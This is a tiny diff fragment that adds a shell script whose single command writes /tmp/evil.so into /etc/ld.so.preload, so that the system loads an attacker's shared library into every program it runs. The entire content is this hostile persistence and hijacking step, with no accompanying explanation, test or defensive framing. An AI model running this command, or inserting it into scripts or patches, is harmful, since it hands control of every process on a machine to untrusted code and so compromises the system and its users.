@@ -1,0 +1,2 @@
+#!/bin/sh
+echo /tmp/evil.so > /etc/ld.so.preload
